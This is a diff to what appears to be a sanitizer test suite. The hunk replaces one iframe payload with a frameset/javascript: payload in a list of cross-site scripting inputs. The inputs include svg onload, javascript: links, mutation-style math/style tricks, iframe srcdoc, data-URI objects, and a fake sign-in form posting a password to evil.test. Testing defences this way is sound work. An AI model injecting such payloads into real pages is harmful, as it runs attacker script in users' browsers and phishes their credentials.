@@ -33,7 +33,7 @@ test.each([
   '<svg onload=alert(1)><script>alert(1)</script></svg>',
   '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
   '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
-  '<iframe onload="alert(1)"></iframe>',
+  '<frameset onload="alert(1)"><frame src="javascript:alert(1)"></frameset>',
   '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="//evil.test">',
   '<form action="https://evil.test"><input name="password"><button>Sign in</button></form>',
